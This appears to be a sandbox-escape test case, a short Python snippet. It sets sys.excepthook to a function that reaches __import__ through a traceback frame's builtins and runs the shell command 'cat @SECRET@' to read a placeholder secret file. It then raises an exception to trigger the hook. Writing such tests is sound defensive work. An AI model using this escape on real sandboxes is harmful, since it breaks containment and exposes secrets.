# The traceback of a TracebackException reached by sys.excepthook.
# effect: run
import sys
def hook(kind, error, trace):
    trace.tb_frame.f_builtins["__import__"]("os").system("cat @SECRET@")
sys.excepthook = hook
raise SystemError("now")
